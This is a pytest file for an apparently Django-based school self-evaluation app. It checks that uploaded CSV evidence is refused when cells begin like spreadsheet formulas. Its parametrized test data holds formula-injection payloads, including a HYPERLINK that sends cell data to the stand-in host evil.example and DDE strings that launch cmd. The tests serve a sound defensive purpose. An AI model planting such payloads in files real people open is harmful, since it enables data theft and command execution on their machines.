"""A CSV whose cells begin like a formula (=, +, -, @) is refused as evidence (issue 28, item 4):
a spreadsheet would run it when the visit's team opens the file. Signed numbers are numbers.
Runs on SQLite and PostgreSQL."""

import re
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from selfeval.files import EvidenceFileError, check_file
from selfeval.models import Evidence
from selfeval.services import self_evaluation_for

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "data",
    [
        b'Pupil,Attendance\nA,=HYPERLINK("http://evil.example/?"&A1,"Click")\n',
        b"Pupil,Attendance\nA,+cmd|' /C calc'!A0\n",
        b"Pupil,Attendance\nA,-2+3+cmd|' /C calc'!A0\n",
        b"Pupil,Attendance\nA,@SUM(1+1)*cmd|' /C calc'!A0\n",
        b'Pupil,Attendance\nA,"=1+1"\n',  # quotes do not stop a spreadsheet reading a formula
        b"Pupil;Attendance\nA;=1+1\n",  # nor does a semicolon for a separator
        b"Pupil\tAttendance\nA\t=1+1\n",
    ],
)
def test_it_refuses_a_csv_with_a_formula(data):
    with pytest.raises(EvidenceFileError, match=r"Line 2 has a cell that begins with .*as a formula"):
        check_file("attendance.csv", data)


def test_it_accepts_signed_numbers_and_ordinary_text():
    data = "Pupil,Change,Note\nA,-5,Up by 5 – see below\nB,+3.5,email@school.example\nC,-0.25,\n".encode()
    assert check_file("attendance.csv", data).extension == "csv"


@pytest.mark.django_db
def test_a_csv_with_a_formula_is_refused_on_the_page_and_not_stored(client, headteacher, draft):
    self_evaluation_for(draft, by=headteacher)
    client.force_login(headteacher)
    response = client.post(
        reverse("selfeval_file_add", args=[draft.pk, 1]),
        {"file-file": SimpleUploadedFile("figures.csv", b"a,b\n1,=1+1\n"), "file-title": ""},
    )
    assert response.status_code == 400
    assert "would run as a formula" in response.content.decode()
    assert not Evidence.objects.exists()


def test_the_app_writes_no_csv_of_its_own():
    # Were one added, its cells would need the same rule (a leading ' before =, +, -, @).
    writers = re.compile(r"csv\.(writer|DictWriter)|text/csv\"\s*\)|\.csv\"")
    found = [
        str(path.relative_to(ROOT))
        for path in ROOT.glob("*/**/*.py")
        if not path.is_relative_to(ROOT / "tests")
        and ".venv" not in path.parts
        # var/ holds scratch copies of the tree (mutation testing's var/mutation/), not the app.
        and path.relative_to(ROOT).parts[0] not in ("var", "node_modules")
        and "migrations" not in path.parts
        and writers.search(path.read_text())
    ]
    assert found == []
